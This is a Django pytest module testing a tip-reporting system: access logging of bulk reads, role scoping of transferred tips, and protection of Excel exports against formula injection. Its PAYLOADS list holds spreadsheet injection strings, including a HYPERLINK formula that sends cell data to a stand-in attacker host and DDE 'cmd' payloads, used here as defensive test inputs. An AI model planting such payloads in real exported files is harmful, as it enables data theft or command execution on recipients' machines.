"""Who reads tips and how it is recorded (issue 11, defects 3 and 4, and incoming transfers):

- every list, search, export and workflow page that shows tip content adds one access-log row per request;
- every Excel export writes user text as text, never as a formula;
- a tip transferred to a unit is in scope for that unit's coordinators and police only (`scoped(…, "incoming")`).
"""

import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from pcmd.core import imports
from pcmd.core.exports import xlsx_response
from pcmd.core.models import AccessLog
from pcmd.core.scoping import scoped
from pcmd.geo.models import AdminUnit, Level
from pcmd.org.models import Agency, AgencyKind, Membership, Role
from pcmd.tips import selectors, services
from pcmd.tips.models import Tip, TipChannel, TipStatus

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm xem")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def seat(user):
    return Membership.objects.get(user=user)


def new_tip(unit, **extra):
    data = {"unit": unit, "summary": "Nghi có mua bán dâm tại quán karaoke", "description": "Nội dung tin báo",
            "location": "Phố Hoàng Văn Thụ", "is_anonymous": True, **extra}
    return services.tip_create(channel=extra.pop("channel", TipChannel.HOTLINE), data=data)


def _neighbour(bach_dang):
    return (AdminUnit.objects.filter(level=Level.COMMUNE, province_id=bach_dang.province_id, is_active=True)
            .exclude(pk=bach_dang.pk).order_by("code").first())


def list_logs(user, **extra):
    return AccessLog.objects.filter(user=user, target="tips.tip", object_id="", **extra)


def workbook_of(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


# ---------------------------------------------------------------- defect 3: bulk reads are logged

def test_tip_list_logs_one_row_with_the_count_shown_and_the_filter(bach_dang, owner, login):
    for _ in range(3):
        new_tip(bach_dang)
    client = login(owner)
    response = client.get(reverse("tip_list"), {"status": TipStatus.RECEIVED})
    shown = len(response.context["page"].object_list)
    assert shown >= 3
    log = list_logs(owner).get()
    assert log.action == "list" and log.count == shown and "status=received" in log.query
    assert log.role == Role.COORDINATOR and log.unit == bach_dang
    # The htmx table partial shows the same rows: it is a read too.
    client.get(reverse("tip_list"), {"page": "1"}, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="crud-table")
    assert list_logs(owner).count() == 2


def test_tip_search_logs_a_search_row(bach_dang, owner, login):
    tip = new_tip(bach_dang, venue_name="Karaoke Ánh Trăng Xanh")
    response = login(owner).get(reverse("tip_list"), {"q": "anh trang xanh"})
    assert tip.code in response.content.decode()
    log = list_logs(owner).get()
    assert log.action == "search" and log.count == len(response.context["page"].object_list) >= 1
    assert "q=anh+trang+xanh" in log.query


def test_tip_export_logs_one_row_with_the_rows_exported(bach_dang, owner, login):
    new_tip(bach_dang)
    response = login(owner).get(reverse("tip_export"), {"status": TipStatus.RECEIVED})
    exported = workbook_of(response).active.max_row - 1  # minus the header row
    assert exported >= 1
    log = list_logs(owner).get()
    assert log.action == "export" and log.count == exported and "status=received" in log.query


def test_deadline_page_logs_one_row(bach_dang, owner, login):
    late = new_tip(bach_dang, received_at=timezone.now() - timezone.timedelta(days=30))
    response = login(owner).get(reverse("tip_deadlines"))
    assert late.code in response.content.decode()
    log = list_logs(owner).get()
    shown = sum(len(response.context[k]) for k in ("accept_overdue", "overdue", "due_soon"))
    assert log.action == "list" and log.count == shown >= 1 and log.detail == "Thời hạn xử lý"


def test_incoming_page_logs_one_row(bach_dang, owner, member_factory, login):
    neighbour = _neighbour(bach_dang)
    tip = new_tip(bach_dang)
    services.tip_transfer(tip=tip, membership=seat(owner), to_unit=neighbour, reason="Thuộc địa bàn phường bên")
    receiver = member_factory("nb.coordinator", neighbour, Role.COORDINATOR, "phong-vhxh")
    response = login(receiver).get(reverse("tip_incoming"))
    assert tip.code in response.content.decode()
    log = list_logs(receiver).get()
    assert log.action == "list" and log.count == len(response.context["tips"]) >= 1
    assert log.detail == "Tin báo chuyển đến"


def test_workflow_page_logs_the_tip_it_shows(bach_dang, owner, login):
    tip = new_tip(bach_dang)
    client = login(owner)
    assert client.get(reverse("tip_action", args=[tip.pk, "xac-minh"])).status_code == 200
    log = AccessLog.objects.get(user=owner, target="tips.tip", object_id=str(tip.pk))
    assert log.action == "workflow" and log.detail == "Bắt đầu xác minh" and log.unit == bach_dang
    # A refused post shows the page again: logged again.
    assert client.post(reverse("tip_action", args=[tip.pk, "xac-minh"]), {"reason": ""}).status_code == 400
    assert AccessLog.objects.filter(user=owner, object_id=str(tip.pk), action="workflow").count() == 2


def test_lists_of_records_that_are_not_sensitive_are_not_logged(owner, login):
    assert login(owner).get(reverse("agency_list")).status_code == 200
    assert not AccessLog.objects.filter(user=owner).exists()


# ---------------------------------------------------------------- defect 4: formula injection

@pytest.mark.parametrize("payload", PAYLOADS)
def test_tip_export_writes_a_formula_like_venue_as_text(bach_dang, owner, login, payload):
    tip = new_tip(bach_dang, channel=TipChannel.WEB, venue_name=payload, location=payload)
    sheet = workbook_of(login(owner).get(reverse("tip_export"), {"q": tip.code})).active
    headers = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == tip.code)
    for name in ("Tên cơ sở (theo người báo)", "Địa điểm"):
        venue = row[headers.index(name)]
        assert venue.data_type == "s" and venue.data_type != "f", (name, venue.data_type)
        assert venue.quotePrefix and venue.value.strip() == payload.strip()
    # Real dates and numbers stay what they are.
    assert row[headers.index("Tiếp nhận")].is_date
    assert row[headers.index("Số lần gia hạn")].data_type == "n"


def test_every_export_keeps_text_as_text_and_numbers_and_dates_as_they_are(settings):
    import datetime

    response = xlsx_response(title="Thử", headers=["=tiêu đề", "b", "c", "d"], filename="thu",
                             rows=[[p, 12, datetime.date(2026, 3, 1), "Karaoke Hoàng Gia"] for p in PAYLOADS])
    sheet = workbook_of(response).active
    assert sheet["A1"].data_type == "s"
    for i, payload in enumerate(PAYLOADS, start=2):
        text, number, day, plain = sheet[i]
        assert text.data_type == "s" and text.quotePrefix and text.value.strip() == payload.strip()
        assert number.data_type == "n" and number.value == 12
        assert day.is_date
        assert plain.data_type == "s" and plain.value == "Karaoke Hoàng Gia"
    assert response.rows_written == len(PAYLOADS)


def test_hand_written_exports_and_crud_exports_of_other_modules_keep_text(bach_dang, owner, login):
    from pcmd.venues.models import Establishment

    place = Establishment.objects.filter(unit=bach_dang).first()
    Establishment.objects.filter(pk=place.pk).update(name="=1+1", address="@SUM(A1)")
    sheet = workbook_of(login(owner).get(reverse("establishment_export"))).active
    cells = [c for r in sheet.iter_rows(min_row=2) for c in r if c.value in ("=1+1", "@SUM(A1)")]
    assert len(cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_import_template_writes_names_from_the_database_as_text(bach_dang, owner, login, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    Agency.objects.create(kind=AgencyKind.objects.filter(level="commune").first(), unit=bach_dang,
                          province_id=bach_dang.province_id, name='=HYPERLINK("http://x","Cơ quan")')
    workbook = workbook_of(login(owner).get(reverse("establishment_import_template")))
    lists = workbook[imports.LISTS_SHEET]
    cells = [c for col in lists.iter_cols() for c in col if str(c.value).startswith("=HYPERLINK")]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert all(c.data_type != "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row)


# ---------------------------------------------------------------- incoming transfers go through scoped()

@pytest.fixture
def transferred(bach_dang, member_factory):
    """A tip of a neighbouring ward, assigned to its police, transferred to Bạch Đằng."""
    neighbour = _neighbour(bach_dang)
    sender = seat(member_factory("nb.sender", neighbour, Role.COORDINATOR, "phong-vhxh"))
    tip = new_tip(neighbour, description="Mô tả đầy đủ: tên, địa chỉ người liên quan")
    services.tip_transfer(tip=tip, membership=sender, to_unit=bach_dang, reason="Địa điểm thuộc phường Bạch Đằng")
    return Tip.objects.get(pk=tip.pk)


def test_agency_officer_of_the_receiving_unit_cannot_open_or_accept_a_transfer(bach_dang, transferred,
                                                                               member_factory, login):
    officer = member_factory("bd.agency", bach_dang, Role.AGENCY_OFFICER, "cong-an-xa")
    assert seat(officer).agency_id  # agency-bound: sees only the tips assigned to his agency
    assert not scoped(Tip.objects.all(), seat(officer), "incoming").filter(pk=transferred.pk).exists()
    client = login(officer)
    assert client.get(reverse("tip_detail", args=[transferred.pk])).status_code == 404
    assert "Mô tả đầy đủ" not in client.get(reverse("tip_detail", args=[transferred.pk])).content.decode()
    assert transferred.code not in client.get(reverse("tip_incoming")).content.decode()
    for step in ("nhan-chuyen", "tra-lai"):
        url = reverse("tip_action", args=[transferred.pk, step])
        assert client.get(url).status_code == 404
        assert client.post(url, {"reason": "Nhận"}).status_code == 404
    transferred.refresh_from_db()
    assert transferred.unit != bach_dang and transferred.transfer_to == bach_dang


def test_coordinator_of_the_receiving_unit_opens_and_accepts_a_transfer(bach_dang, transferred, owner, login):
    client = login(owner)
    page = client.get(reverse("tip_detail", args=[transferred.pk]))
    assert page.status_code == 200 and "Mô tả đầy đủ" in page.content.decode()
    assert transferred.code in client.get(reverse("tip_incoming")).content.decode()
    response = client.post(reverse("tip_action", args=[transferred.pk, "nhan-chuyen"]), {"reason": ""})
    assert response.status_code == 302
    transferred.refresh_from_db()
    assert transferred.unit == bach_dang and transferred.transfer_to is None


def test_who_may_take_a_transfer_in(bach_dang, transferred, owner, reader, member_factory):
    police = seat(member_factory("bd.police.in", bach_dang, Role.POLICE_OFFICER, "cong-an-xa"))
    officer = seat(member_factory("bd.agency.in", bach_dang, Role.AGENCY_OFFICER, "cong-an-xa"))
    province = seat(member_factory("hp.coordinator", bach_dang.province, Role.COORDINATOR, "so-y-te"))
    incoming = {m.user.username: selectors.incoming(m).filter(pk=transferred.pk).exists()
                for m in (seat(owner), police, province, officer, seat(reader))}
    assert incoming == {"p.owner": True, "bd.police.in": True, "hp.coordinator": True, "bd.agency.in": False,
                        "p.reader": False}
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.tip_transfer_accept(tip=transferred, membership=officer)
    services.tip_transfer_accept(tip=transferred, membership=police)
    assert Tip.objects.get(pk=transferred.pk).unit == bach_dang


def test_the_incoming_page_is_in_the_menu_only_of_seats_that_take_transfers_in(bach_dang, member_factory):
    from pcmd.core.navigation import menu_for
    from pcmd.org.models import Role

    def has_incoming(role, kind=None):
        seat = member_factory(f"menu.{role}", bach_dang, role, kind).memberships.get()
        return any(page["url"] == reverse("tip_incoming") for group in menu_for(seat) for page in group["pages"])

    assert has_incoming(Role.COORDINATOR, "phong-vhxh") and has_incoming(Role.POLICE_OFFICER, "cong-an-xa")
    assert not has_incoming(Role.AGENCY_OFFICER, "hlhpn-xa") and not has_incoming(Role.LEADER)
